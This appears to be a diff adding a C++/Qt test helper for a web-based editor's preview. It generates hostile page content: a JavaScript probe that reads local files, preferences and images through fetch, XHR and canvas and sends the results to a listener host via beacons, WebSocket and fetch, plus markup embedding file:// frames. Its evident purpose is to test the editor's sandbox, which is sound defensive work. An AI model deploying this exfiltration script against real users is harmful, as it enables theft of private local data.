@@ -1,0 +1,95 @@
+#pragma once
+
+#include "platform/gui/WebPage.h"
+#include "platform/gui/WebView.h"
+
+#include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QStringList>
+#include <QTest>
+#include <QWebEngineFindTextResult>
+#include <QWebEnginePage>
+
+// Content written to harm the user, as a co-author, a hijacked template or a comment could send it: a
+// script that tries to read local files, the database, the preferences and the user's pictures (fetch,
+// XHR, a canvas), and sends whatever it got to a listener (picture beacon, sendBeacon, WebSocket, fetch).
+// At the end it reports how many things it read to `report` + "/done-<who>?stolen=N"; the report comes
+// after every attempt, so a listener that has received nothing by then never will.
+namespace HostileContent {
+
+// A red pixel.
+inline QByteArray pngBytes()
+{
+    return QByteArray::fromBase64(
+        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");
+}
+
+inline bool writeFile(const QString& path, const QByteArray& bytes)
+{
+    QFile file(path);
+    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
+}
+
+inline QString probeScript(const QString& who, const QString& listener, const QString& report,
+                           const QStringList& targets)
+{
+    const QString list =
+        QString::fromUtf8(QJsonDocument(QJsonArray::fromStringList(targets)).toJson(QJsonDocument::Compact));
+    return QStringLiteral(
+               "<script>(async function () {"
+               "var who = '%1', listener = '%2', report = '%3', targets = %4, stolen = [];"
+               "function keep(text) { if (text && text.length) { stolen.push(text); } }"
+               "for (var i = 0; i < targets.length; i++) {"
+               "  var t = targets[i];"
+               "  try { var r = await fetch(t); keep(await r.text()); } catch (e) {}"
+               "  await new Promise(function (done) { try { var x = new XMLHttpRequest();"
+               "    x.onload = function () { keep(x.responseText); done(); };"
+               "    x.onerror = x.onabort = function () { done(); }; x.open('GET', t); x.send();"
+               "  } catch (e) { done(); } });"
+               "}"
+               "var pictures = document.querySelectorAll('img.mine');"
+               "for (var j = 0; j < pictures.length; j++) { var p = pictures[j];"
+               "  await new Promise(function (done) { if (p.complete) { done(); } else {"
+               "    p.addEventListener('load', done); p.addEventListener('error', done); } });"
+               "  try { var c = document.createElement('canvas'); c.width = 1; c.height = 1;"
+               "    c.getContext('2d').drawImage(p, 0, 0); keep(c.toDataURL()); } catch (e) {}"
+               "}"
+               "if (stolen.length) { var d = encodeURIComponent(stolen.join('|').slice(0, 1500));"
+               "  new Image().src = listener + '/img?d=' + d;"
+               "  try { navigator.sendBeacon(listener + '/beacon', d); } catch (e) {}"
+               "  try { new WebSocket(listener.replace('http', 'ws') + '/ws?d=' + d); } catch (e) {}"
+               "  try { await fetch(listener + '/fetch?d=' + d, { mode: 'no-cors' }); } catch (e) {}"
+               "}"
+               "try { await fetch(report + '/done-' + who + '?stolen=' + stolen.length, { mode: 'no-cors' });"
+               "} catch (e) {}"
+               "})();</script>")
+        .arg(who, listener, report, list);
+}
+
+// Markup that shows local files or asks the editor for its windows, with no script at all.
+inline QString fileFramesAndMarkers(const QStringList& files)
+{
+    QString html;
+    for (const QString& file : files) {
+        html += QStringLiteral("<iframe src=\"file://%1\"></iframe><object data=\"file://%1\"></object>")
+                    .arg(file);
+    }
+    return html + QStringLiteral("<img src=\"/penhollow-editor/previewcontent:?n=1\">"
+                                 "<img src=\"/x/livepreviewcontent:\"><img src=\"file:///toolbar/addlocalimage:/x\">"
+                                 "<iframe src=\"/previewcontent:\"></iframe>");
+}
+
+// How many times the text is found in the page, frames included; -1 when the search gave no answer.
+inline int occurrences(WebView& view, const QString& text)
+{
+    int found = -1;
+    view.webPage()->findText(text, {}, [&](const QWebEngineFindTextResult& result) {
+        found = result.numberOfMatches();
+    });
+    const bool answered = QTest::qWaitFor([&] { return found >= 0; }, 20000);
+    view.webPage()->findText(QString());
+    return answered ? found : -1;
+}
+
+} // namespace HostileContent
